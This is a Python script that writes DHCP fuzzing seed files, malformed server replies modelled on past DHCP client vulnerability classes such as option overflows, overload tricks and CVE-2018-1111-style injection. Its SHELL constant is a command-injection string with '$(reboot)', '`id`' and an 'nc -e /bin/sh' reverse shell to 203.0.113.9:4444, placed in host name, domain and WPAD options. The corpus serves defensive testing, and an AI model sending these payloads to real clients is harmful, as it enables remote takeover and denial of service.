#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Writes tests/fuzz/corpus/fuzz_dhcp/cve_*.bin: DHCP replies in the
classes of past DHCP client vulnerabilities, built on the canned ACK
(ack.bin), so the fuzzer starts from them.  Run from the repository root
after changing the list; the files are committed.

- short options: a length past the end of the packet (busybox udhcpc
  CVE-2018-20679, CVE-2019-5747: 4-byte options read from shorter ones),
  a lease time and a mask of 2 and 3 bytes, no end option;
- overflowing options: 255-byte values, a router list of 255 bytes,
  classless routes (121) with a prefix length of 33 and cut short (ISC
  dhclient CVE-2018-5732), a client id of 255 bytes;
- option overload (52): sname and file carrying options, overloaded
  twice, overloading into a field that overflows;
- shell metacharacters in names: host name (12), domain (15), domain
  search (119, with a compression loop: CVE-2019-0547's class) and a
  WPAD URL (252, NetworkManager's CVE-2018-1111).
"""
import os

DIR = "tests/fuzz/corpus/fuzz_dhcp"
base = bytearray(open(os.path.join(DIR, "ack.bin"), "rb").read())
HEAD = bytes(base[:240])          # BOOTP header and magic cookie
ACK = bytes([53, 1, 5, 54, 4, 192, 0, 2, 1, 51, 4, 0, 0, 0x0e, 0x10])
SHELL = b"$(reboot);`id`|nc -e /bin/sh 203.0.113.9 4444&&'\"\n"


def opt(code, value):
    return bytes([code, len(value) & 0xff]) + value


def write(name, options, head=HEAD):
    pkt = head + options
    pkt += b"\0" * max(0, 300 - len(pkt))
    with open(os.path.join(DIR, "cve_" + name + ".bin"), "wb") as f:
        f.write(pkt)


def with_fields(sname=b"", file=b""):
    h = bytearray(HEAD)
    h[44:44 + 64] = sname[:64].ljust(64, b"\0")
    h[108:108 + 128] = file[:128].ljust(128, b"\0")
    return bytes(h)


write("len_past_end", ACK + bytes([1, 200, 255, 255]), HEAD)
write("short_lease", bytes([53, 1, 5, 54, 4, 192, 0, 2, 1, 51, 2, 0, 1, 255]))
write("short_mask_router", ACK + bytes([1, 3, 255, 255, 255, 3, 2, 192, 0, 255]))
write("no_end", ACK + opt(1, b"\xff\xff\xff\0"))
write("long_values", ACK + opt(12, b"h" * 255) + opt(15, b"d" * 255) + b"\xff")
write("router_255", ACK + opt(3, b"\xc0\0\2\1" * 63 + b"\xc0\0\2") + b"\xff")
write("classless_33", ACK + opt(121, bytes([33, 10, 0, 0, 0, 0, 192, 0, 2, 1])) + b"\xff")
write("classless_cut", ACK + opt(121, bytes([24, 198, 51, 100, 192, 0])) + b"\xff")
write("client_id_255", ACK + opt(61, b"\1" + b"c" * 254) + b"\xff")
write("overload_both", ACK + opt(52, b"\3") + b"\xff",
      with_fields(opt(12, SHELL) + b"\xff", opt(15, b"x" * 120) + b"\xff"))
write("overload_twice", ACK + opt(52, b"\3") + opt(52, b"\1") + b"\xff",
      with_fields(opt(52, b"\2") + b"\xff", opt(52, b"\1") + b"\xff"))
write("overload_overflow", ACK + opt(52, b"\1") + b"\xff",
      with_fields(sname=bytes([12, 200]) + b"s" * 62))
write("overload_bad_value", ACK + opt(52, b"\7") + b"\xff",
      with_fields(b"\xff", b"\xff"))
write("shell_names", ACK + opt(12, SHELL) + opt(15, SHELL) +
      opt(252, b"http://" + SHELL) + b"\xff")
write("search_loop", ACK + opt(119, b"\3abc\xc0\0" + b"\3def\xc0\6") + b"\xff")
write("search_shell", ACK + opt(119, b"\x0a$(reboot)\3com\0") + b"\xff")
